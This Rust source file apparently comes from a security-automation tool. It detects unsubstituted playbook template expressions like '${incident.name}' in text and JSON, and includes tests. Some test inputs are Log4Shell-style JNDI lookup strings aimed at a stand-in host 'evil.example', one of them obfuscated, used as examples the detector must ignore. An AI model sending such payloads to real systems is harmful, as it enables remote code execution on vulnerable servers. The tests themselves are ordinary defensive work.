//! Expressions that a playbook should have put values in for: `${incident.name}`.
//!
//! A value that is one, or one word with one in it, is a mistake. A text of several words may speak of such things (alerts
//! quote them): there it is a mistake where it begins as the data of playbooks do. What has a colon behind its name, as
//! `${jndi:ldap://…}` and `${env:HOME}`, is no expression of a playbook.

use serde_json::Value as Json;

/// What the data of playbooks begin with, wherever they come from.
const ROOTS: [&str; 8] =
    ["incident", "inputs", "alert", "issue", "investigation", "parentIncidentFields", "parentIncidentContext", "lists"];

/// So much of a text is looked into, in bytes: one that is longer is no name.
const LOOKED_INTO: usize = 64 * 1024;
/// The longest expression, in characters.
const LONGEST: usize = 1_000;

/// The first expression that was left in a text by mistake.
pub(super) fn find(text: &str) -> Option<&str> {
    let mut rest = text[..text.floor_char_boundary(LOOKED_INTO)].trim();
    let is_prose = is_prose(rest);
    while let Some(at) = rest.find("${") {
        let Some(expression) = expression(&rest[at..]) else {
            rest = &rest[at + 2..];
            continue;
        };
        let inside = expression[2..].trim_start();
        let is_of = |root: &&str| {
            inside.strip_prefix(*root).is_some_and(|rest| rest.trim_start().starts_with(['.', '[', '(', '}']))
        };
        if !is_prose || ROOTS.iter().any(is_of) {
            return Some(expression);
        }
        rest = &rest[at + expression.len()..];
    }
    None
}

/// The same in JSON, in its items and fields too.
pub(super) fn find_in(json: &Json) -> Option<&str> {
    match json {
        Json::String(text) => find(text),
        Json::Array(items) => items.iter().find_map(find_in),
        Json::Object(fields) => fields.values().find_map(find_in),
        _ => None,
    }
}

/// Whether a text has blanks outside of its expressions.
fn is_prose(text: &str) -> bool {
    let mut rest = text;
    while let Some(at) = rest.find("${") {
        if rest[..at].contains(char::is_whitespace) {
            return true;
        }
        rest = match expression(&rest[at..]) {
            Some(expression) => &rest[at + expression.len()..],
            None => &rest[at + 2..],
        };
    }
    rest.contains(char::is_whitespace)
}

/// The expression that a text begins with: a path into the context, with filters and transformers of any kind behind it.
fn expression(text: &str) -> Option<&str> {
    let inside = text.strip_prefix("${")?.trim_start();
    let name = inside.find(|c: char| !(c.is_alphanumeric() || c == '_' || c == '-')).unwrap_or(inside.len());
    let after = inside[name..].trim_start();
    let is_path =
        (name > 0 && after.starts_with(['.', '[', '(', '}', '='])) || (name == 0 && after.starts_with(['.', '=']));
    if !is_path {
        return None;
    }
    let mut depth = 0_usize;
    for (at, letter) in text.char_indices().take(LONGEST) {
        match letter {
            '{' => depth += 1,
            '}' if depth == 1 => return Some(&text[..=at]),
            '}' => depth -= 1,
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    #[test]
    fn what_a_playbook_left_is_found() {
        for (text, expression) in [
            ("${incident.name}", "${incident.name}"),
            (" ${ incident.name }\n", "${ incident.name }"),
            ("${File.[0].Name}", "${File.[0].Name}"),
            ("${File(val.Name == \"a b\").EntryID}", "${File(val.Name == \"a b\").EntryID}"),
            ("${Account.ID=val.map(x => { return x; })}", "${Account.ID=val.map(x => { return x; })}"),
            ("${.=1}", "${.=1}"),
            ("${limit}", "${limit}"),
            ("war-room-${incident.id}", "${incident.id}"),
            ("${a.b},${c.d}", "${a.b}"),
            ("War room ${incident.id} of ${x.y}", "${incident.id}"),
            ("Look: ${HOME} and ${inputs.Text.[0]}", "${inputs.Text.[0]}"),
        ] {
            assert_eq!(find(text), Some(expression), "{text}");
        }
        assert_eq!(find_in(&json!(["a", { "b": "${incident.id}" }])), Some("${incident.id}"));
    }

    #[test]
    fn what_an_alert_quotes_is_left_alone() {
        for text in [
            "",
            "plain",
            "$incident.name",
            "{incident.name}",
            "${}",
            "${",
            "${incident.name",
            "${jndi:ldap://evil.example/a}",
            "Seen in a header: ${jndi:ldap://evil.example/a}",
            "Seen: ${${lower:j}ndi:ldap://evil.example/a}",
            "run echo ${HOME} there",
            "the template has `${user.name}` in it",
            "see ${incidents.name} there",
            "on: ${{ github.event.issue.title }}",
            "costs $5 {a}",
        ] {
            assert_eq!(find(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn any_text_has_one_or_none(text in "(\\PC|\\$\\{|[}. ]){0,40}") {
            if let Some(expression) = find(&text) {
                let is_one = text.contains(expression) && expression.starts_with("${") && expression.ends_with('}');
                prop_assert!(is_one, "{text}");
            }
        }
    }
}
